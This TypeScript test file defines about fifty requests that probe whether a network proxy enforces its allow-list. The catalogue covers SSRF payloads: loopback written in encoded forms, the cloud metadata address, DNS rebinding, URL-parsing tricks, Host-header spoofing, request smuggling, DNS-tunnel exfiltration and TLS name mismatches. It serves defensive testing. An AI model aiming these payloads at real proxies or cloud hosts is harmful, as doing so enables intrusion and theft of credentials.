import { attacksOf, type Attack } from "../../../src/workloads/proof/attack.ts";
import type { AttackRun } from "./run-attacks.ts";

/** Ports of the servers that attacks try to reach. */
export interface ProxyPorts {
  /** Allowed, at the name web.test. */
  readonly web: number;
  /** Not allowed by any name. */
  readonly secret: number;
  /** Allowed at the name raw.test; speaks no HTTP. */
  readonly raw: number;
}

interface Request {
  readonly tries: string;
  /** What is sent; each piece once the previous one was answered. */
  readonly send: (ports: ProxyPorts) => readonly string[];
  /** Text in the answer that shows that the attack got through. */
  readonly token?: string;
}

const get = (target: string, ...headers: readonly string[]): string =>
  [`GET ${target} HTTP/1.1`, ...(headers.length === 0 ? ["Host: x"] : headers), "Connection: close", "", ""].join(
    "\r\n",
  );
const connect = (target: string): string => `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`;

const reaching = (tries: string, host: string): Request => ({
  tries,
  send: ({ secret }) => [get(`http://${host}:${secret}/`)],
});
const tunnelling = (tries: string, host: string): Request => ({
  tries,
  send: ({ secret }) => [connect(`${host}:${secret}`), get("/", "Host: x")],
});
const asking = (tries: string, target: (ports: ProxyPorts) => string): Request => ({
  tries,
  send: (ports) => [get(target(ports))],
});

/** The names of the list, `hidden.test` and the like, resolve to addresses that must not be reached. */
const requests: Readonly<Record<string, Request>> = {
  "asks-by-private-name": reaching("reach a private address by an allowed name", "hidden.test"),
  "asks-by-private-name-in-ipv6": reaching("reach an IPv6 loopback address by an allowed name", "hidden6.test"),
  "asks-by-mapped-name": reaching("reach loopback by a name with an IPv4-mapped address", "mapped.test"),
  "asks-by-6to4-name": reaching("reach loopback by a name with a 6to4 address", "sixtofour.test"),
  "asks-by-nat64-name": reaching("reach loopback by a name with a NAT64 address", "nat64.test"),
  "asks-by-alias": reaching("reach a private address by an alias", "alias.test"),
  "asks-by-rebinding-name": {
    tries: "reach loopback by a name that changes its address (DNS rebinding)",
    send: ({ secret }) =>
      Array.from({ length: 3 }, () => get(`http://rebind.test:${secret}/`).replace("close", "keep-alive")),
  },
  "asks-metadata-by-name": reaching("reach the cloud's metadata service by a name", "metadata.test"),
  "asks-metadata-by-address": asking("reach the cloud's metadata service", () => "http://169.254.169.254/latest/"),
  "asks-by-address": reaching("reach loopback by its address", "127.0.0.1"),
  "asks-by-decimal-address": reaching("write it in decimal", "2130706433"),
  "asks-by-octal-address": reaching("write it in octal", "0177.0.0.1"),
  "asks-by-hexadecimal-address": reaching("write it in hexadecimal", "0x7f000001"),
  "asks-by-short-address": reaching("write it short", "127.1"),
  "asks-by-zero-address": reaching("write it as zero", "0"),
  "asks-by-ipv6-address": reaching("write it in IPv6", "[::1]"),
  "asks-by-mapped-address": reaching("write it IPv4-mapped", "[::ffff:127.0.0.1]"),
  "tunnels-to-address": tunnelling("tunnel to loopback", "127.0.0.1"),
  "tunnels-to-mapped-address": tunnelling("tunnel to loopback, IPv4-mapped", "[::ffff:127.0.0.1]"),
  "tunnels-to-private-name": tunnelling("tunnel to a private address by an allowed name", "hidden.test"),
  "asks-localhost": reaching("reach the host as localhost", "localhost"),
  "asks-unlisted-name": reaching("reach a name that is not on the list", "unlisted.test"),
  "asks-unlisted-name-in-capitals": reaching("write a name in mixed case", "UnListed.TEST"),
  "asks-name-with-dot": reaching("add a dot to a name", "hidden.test."),
  "asks-name-before-nul": {
    tries: "hide a name's end behind a NUL",
    send: ({ secret }) => [connect(`hidden.test\0.web.test:${secret}`), get("/", "Host: x")],
  },
  "asks-name-before-encoded-nul": reaching("hide it behind an encoded NUL", "hidden.test%00.web.test"),
  "asks-name-behind-user": asking(
    "write an allowed name as a user's before another",
    ({ web, secret }) => `http://web.test:${web}@hidden.test:${secret}/`,
  ),
  "asks-name-before-backslash": asking(
    "write it behind a backslash",
    ({ web, secret }) => `http://hidden.test:${secret}\\@web.test:${web}/`,
  ),
  "asks-name-before-fragment": asking(
    "write it behind a #",
    ({ web, secret }) => `http://hidden.test:${secret}#@web.test:${web}/`,
  ),
  "asks-name-that-begins-alike": reaching("take a name that begins as an allowed one", "web.test.unlisted.test"),
  "asks-name-that-ends-alike": reaching("take a name that ends as an allowed one", "evilweb.test"),
  "asks-name-below": reaching("take a name below an allowed one", "sub.web.test"),
  "asks-name-that-looks-alike": reaching("take a name that looks as an allowed one (punycode)", "xn--wb-bja.test"),
  "asks-stolen-data-as-name": reaching("carry data out in a name to look up (DNS tunnel)", "c3RvbGVu.tunnel.test"),
  "asks-other-port": reaching("reach another port of an allowed host", "web.test"),
  "scans-ports": asking("scan the ports of an allowed host", () => "http://web.test:22/"),
  "asks-port-that-overflows": asking(
    "name a port that overflows",
    ({ secret }) => `http://web.test:${65_536 + secret}/`,
  ),
  "asks-two-ports": {
    tries: "name two ports",
    send: ({ web, secret }) => [connect(`web.test:${web}:${secret}`), get("/", "Host: x")],
  },
  "asks-https-without-tunnel": asking(
    "ask for https without a tunnel",
    ({ secret }) => `https://hidden.test:${secret}/`,
  ),
  "asks-other-scheme": asking("ask for another scheme", ({ secret }) => `gopher://hidden.test:${secret}/`),
  "asks-by-host-header": {
    tries: "name the host in its header only",
    send: ({ secret }) => [get("/", `Host: hidden.test:${secret}`)],
  },
  "upgrades-to-unlisted-host": {
    tries: "open a WebSocket to a host that is not on the list",
    send: ({ secret }) => [
      get(`http://unlisted.test:${secret}/`, "Host: web.test", "Upgrade: websocket").replace("close", "Upgrade"),
    ],
  },
  "says-other-host": {
    tries: "name another host to an allowed server",
    send: ({ web }) => [get(`http://web.test:${web}/`, "Host: evil.test")],
    token: "hello evil.test",
  },
  "says-other-host-later": {
    tries: "name another host in the connection's second request",
    send: ({ web }) => [
      get(`http://web.test:${web}/`, `Host: web.test:${web}`).replace("close", "keep-alive"),
      get(`http://web.test:${web}/`, "Host: evil.test"),
    ],
    token: "hello evil.test",
  },
  "says-other-host-in-tunnel": {
    tries: "name another host inside a tunnel",
    send: ({ web }) => [connect(`web.test:${web}`), get("/", "Host: evil.test")],
    token: "hello evil.test",
  },
  "smuggles-request": {
    tries: "smuggle a second request by ambiguous lengths",
    send: ({ web }) => [
      `POST http://web.test:${web}/ HTTP/1.1\r\nHost: web.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${get("/", "Host: evil.test")}`,
    ],
    token: "hello evil.test",
  },
  "speaks-other-protocol-in-tunnel": {
    tries: "speak another protocol than TLS and HTTP in a tunnel",
    send: ({ raw }) => [connect(`raw.test:${raw}`), "EHLO attack\r\n"],
  },
};

const others = {
  "follows-redirect-to-metadata": "follow a redirect to the metadata service",
  "names-other-server-in-tls": "name another server in the TLS hello than in CONNECT",
  "names-no-server-in-tls": "name no server in the TLS hello",
  "names-other-server-in-pieces": "name another server in a TLS hello cut into pieces",
};

/** Attacks on the network policy through its proxy. */
export const proxyAttacks: readonly Attack[] = attacksOf({
  group: "Through the network's proxy",
  control: "naiveProxy",
  attacks: { ...Object.fromEntries(Object.entries(requests).map(([id, { tries }]) => [id, tries])), ...others },
});

/** The runs of these attacks. */
export function proxyAttackRuns(ports: ProxyPorts): readonly AttackRun[] {
  const sent = Object.entries(requests).map(([id, { send, token = "SECRET" }]) => ({
    id,
    program: "sends-to-proxy",
    parameters: { token, parts: send(ports).map((part) => Buffer.from(part, "latin1").toString("hex")) },
  }));
  const tls = { program: "says-to-tls", parameters: { token: "SECRET", said: "other.test", inPieces: false } };
  return [
    ...sent,
    { id: "follows-redirect-to-metadata", program: "follows-redirect", parameters: { token: "SECRET" } },
    { id: "names-other-server-in-tls", ...tls },
    { id: "names-no-server-in-tls", ...tls, parameters: { ...tls.parameters, said: "" } },
    { id: "names-other-server-in-pieces", ...tls, parameters: { ...tls.parameters, inPieces: true } },
  ];
}

/** Names that the policy of these attacks lists, with the port of the server that must not be reached. */
export const listedNames: readonly string[] = [
  ...["hidden.test", "hidden6.test", "mapped.test", "sixtofour.test", "nat64.test"],
  ...["alias.test", "rebind.test", "metadata.test"],
];
